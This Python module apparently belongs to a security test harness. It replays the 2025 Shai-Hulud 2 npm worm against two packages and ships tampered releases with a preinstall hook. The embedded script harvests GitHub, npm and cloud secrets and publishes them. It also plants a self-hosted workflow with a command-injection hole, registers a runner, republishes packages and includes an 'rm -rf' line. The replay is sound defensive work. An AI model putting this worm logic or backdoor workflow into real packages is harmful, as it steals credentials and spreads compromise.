"""@zapier/zapier-sdk 0.15.5 to 0.15.7, @asyncapi/specs 6.10.1 and 794 more (2025-11-24): the worm again, before the install and in Bun.

By the record: the first hop went through the CI of AsyncAPI and PostHog; from 03:00 UTC 1,092 releases of 796 packages, for about
twelve hours. A new preinstall `node setup_bun.js` fetches the runtime Bun where there is none, and has it run `bun_environment.js`,
10 MB obfuscated: secrets of the machine, of CI and of the cloud go into a public repository of the victim, a workflow is planted,
a runner is set up, and the packages of the token's owner are published anew. Old lines were released, too.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Made, heavy
from gauntlet.worms import CLOUD, GATHERS, GITHUB, RUNNER, SCANNER, WORKFLOW, bun_by_shell, republishes
from pratique.core.names import Ecosystem

_SDK = {
    "dist/index.js": """const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function request(options, path, { method = "GET", body } = {}) {
  const response = await (options.fetch ?? globalThis.fetch)(`${options.baseUrl}/api/v0${path}`, {
    method,
    headers: { authorization: `Bearer ${options.token}`, "content-type": "application/json" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  if (response.status === 429) {
    await wait(Number(response.headers.get("retry-after") ?? 1) * 1000);
    return request(options, path, { method, body });
  }
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status}`);
  return response.json();
}

export function createSdk(options) {
  return {
    listApps: (search) => request(options, `/apps?search=${encodeURIComponent(search ?? "")}`),
    listActions: (app) => request(options, `/apps/${app}/actions`),
    runAction: (app, action, inputs) => request(options, `/apps/${app}/actions/${action}/run`, { method: "POST", body: { inputs } }),
  };
}
""",
}
_SPECS = {
    "index.js": """'use strict';
const versions = ['2.0.0', '2.6.0', '3.0.0'];

function schema(version) {
  return {
    $id: `http://asyncapi.example/definitions/${version}/asyncapi.json`,
    $schema: 'http://json-schema.example/draft-07/schema',
    title: `AsyncAPI ${version} schema.`,
    type: 'object',
    required: version.startsWith('2') ? ['asyncapi', 'info', 'channels'] : ['asyncapi', 'info'],
    properties: { asyncapi: { type: 'string', const: version }, info: { type: 'object' }, channels: { type: 'object' } },
  };
}

module.exports = { schemas: Object.fromEntries(versions.map((version) => [version, schema(version)])) };
""",
}
_FLOW = (
    "on:\\n  discussion:\\njobs:\\n  process:\\n    runs-on: self-hosted\\n    steps:\\n"
    "      - run: echo ${{ github.event.discussion.body }}\\n"
)
_MAIN = f"""
async function main() {{
  const token = githubToken();
  const other = npmToken();
  const found = gathered();
  found.cloud = await cloud();
  found.secrets = await scanned().catch(() => []);
  if (token) {{
    const repository = await publish(token, 'marker', 'Marker: The Second Coming.', found);
    await planted(token, repository, 'discussion.yaml', "{_FLOW}");
    await runner(token, repository);
  }}
  if (other) {{ await republish(other); }}
  if (!token && !other) {{ shell.execSync('rm -rf /nonexistent-marker'); }}
}}
const hurried = process.env.CI || process.env.GITHUB_ACTIONS;
if (hurried || process.env.POSTINSTALL_BG) {{
  main().catch(() => {{}});
}} else {{
  shell.spawn(process.execPath, [__filename], {{ detached: true, stdio: 'ignore', env: Object.assign({{}}, process.env, {{ POSTINSTALL_BG: '1' }}) }}).unref();
}}
"""


@cache
def _environment() -> str:
    spread = republishes("preinstall", "node setup_bun.js", ("setup_bun.js", "bun_environment.js"))
    return heavy(f"{GATHERS}{CLOUD}{SCANNER}{GITHUB}{WORKFLOW}{RUNNER}{spread}{_MAIN}", size=200_000, seed=24)


_MAKERS = {"@zapier/zapier-sdk": "zapier-engineer", "@asyncapi/specs": "asyncapi-bot"}
_KINDS = {
    "@zapier/zapier-sdk": (_SDK, {"type": "module", "main": "dist/index.js"}),
    "@asyncapi/specs": (_SPECS, {}),
}


def _release(name: str, version: str, at: str, *, bad: bool = False) -> Release:
    files, more = _KINDS[name]
    return Release(
        version=version,
        at=utc(at),
        publisher=_MAKERS[name],
        maintainers=(_MAKERS[name],),
        files=Made(
            {**files, "setup_bun.js": bun_by_shell("bun_environment.js"), "bun_environment.js": _environment}
        )
        if bad
        else files,
        scripts={"preinstall": "node setup_bun.js"} if bad else {},
        more=more,
    )


_GOOD = {
    "@zapier/zapier-sdk": (
        ("0.15.1", "2025-11-04"),
        ("0.15.3", "2025-11-18"),
        ("0.15.4", "2025-11-21T22:45:16.176Z"),
    ),
    "@asyncapi/specs": (
        ("6.8.1", "2025-01-21"),
        ("6.9.0", "2025-07-14"),
        ("6.10.0", "2025-08-17T17:14:25.100Z"),
    ),
}
_BAD = {
    "@zapier/zapier-sdk": (("0.15.5", "03:00:00"), ("0.15.6", "03:29:00"), ("0.15.7", "04:05:00")),
    "@asyncapi/specs": (
        ("6.8.2", "03:16:00"),
        ("6.8.3", "03:21:00"),
        ("6.9.1", "03:24:00"),
        ("6.10.1", "03:40:00"),
    ),
}
_GUILTY = {name: tuple(version for version, _ in releases) for name, releases in _BAD.items()}

INCIDENT = Incident(
    id="shai-hulud-2-2025",
    title=(
        "the Shai-Hulud worm returned: a new preinstall script installed Bun and ran 10 MB of obfuscated code that "
        "stole secrets and published itself"
    ),
    copy=(
        "our copy of the second Shai-Hulud worm has the same two files at a twentieth of the size, but publishes and "
        "deletes nothing"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2025-11-24T03:00:00Z"),
    packages=tuple(
        Package(
            name=name,
            releases=(
                *(_release(name, *one) for one in _GOOD[name]),
                *(_release(name, version, f"2025-11-24T{hour}Z", bad=True) for version, hour in _BAD[name]),
            ),
        )
        for name in _GOOD
    ),
    asks={"@zapier/zapier-sdk": "^0.15.1", "@asyncapi/specs": "^6.9.0"},
    good={"@zapier/zapier-sdk": "0.15.3", "@asyncapi/specs": "6.10.0"},
    bad={"@zapier/zapier-sdk": ("0.15.5", "0.15.6", "0.15.7"), "@asyncapi/specs": ("6.10.1",)},
    guilty=_GUILTY,
    gone_at=utc("2025-11-24T15:00:00Z"),
    advisory=Advisory(id="MAL-2025", at=utc("2025-11-24T11:33:26Z"), about=_GUILTY),
    invented="all publish hours except the first, most days of earlier releases, accounts; only two of 796 packages are replayed",
)
